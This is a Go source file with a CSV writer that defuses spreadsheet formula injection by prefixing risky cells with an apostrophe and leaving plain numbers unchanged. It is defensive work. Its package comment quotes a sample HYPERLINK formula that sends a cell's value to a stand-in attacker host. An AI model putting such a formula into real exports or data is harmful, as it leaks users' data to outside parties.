// Package csvout writes the csv files gonggu hands to people. A spreadsheet program (Excel,
// WPS) opening a csv takes a cell that begins with =, +, -, @, TAB or CR for a formula and
// evaluates it, so a name typed as =HYPERLINK("http://evil.example/?"&A1,"点击核实") into
// the registry would become a live link in the export. Writer is encoding/csv's Writer with
// every such cell made inert by a leading apostrophe, which the spreadsheet shows as text;
// a cell that is a plain number such as -12.5 or +3 is left as it is.
package csvout

import (
	"encoding/csv"
	"io"
	"strings"
)

// Writer writes csv records like encoding/csv's Writer, neutralising each cell with Cell.
// Errors are sticky: after a failed write, Flush and Error report the first one.
type Writer struct {
	w   *csv.Writer
	rec []string
}

// NewWriter returns a Writer that writes to w.
func NewWriter(w io.Writer) *Writer {
	return &Writer{w: csv.NewWriter(w)}
}

// Write writes one record, each cell passed through Cell. The record is not modified.
func (w *Writer) Write(record []string) error {
	w.rec = w.rec[:0]
	for _, s := range record {
		w.rec = append(w.rec, Cell(s))
	}
	return w.w.Write(w.rec)
}

// Flush writes any buffered data to the underlying writer.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports any error of a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }

// Cell returns s as it is safe to put in a csv cell: with an apostrophe in front when a
// spreadsheet would read it as a formula, unchanged otherwise.
//
// The full-width ＝ ＋ － ＠ count too: a spreadsheet on a Chinese system may turn them into
// their ASCII forms while reading a cell, and nobody's data begins with them on purpose.
func Cell(s string) string {
	if !dangerous(s) {
		return s
	}
	return "'" + s
}

// dangerous reports whether a spreadsheet could read s as a formula: it begins with one of
// = + - @ TAB CR (or a full-width ＝ ＋ － ＠) and is not a plain number.
func dangerous(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '@', '\t', '\r':
		return true
	case '+', '-':
		return !isNumber(s)
	}
	for _, p := range []string{"＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, p) {
			return true
		}
	}
	return false
}

// isNumber reports whether s is a plain decimal number: an optional sign, ASCII digits with
// at most one decimal point among or after them, nothing else. "-12.5", "+3", "-.5" and
// "7." are numbers; "-1+1", "-1e3", "- 1", "-" and "-Inf" are not.
func isNumber(s string) bool {
	if s != "" && (s[0] == '+' || s[0] == '-') {
		s = s[1:]
	}
	digits, point := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !point:
			point = true
		default:
			return false
		}
	}
	return digits > 0
}
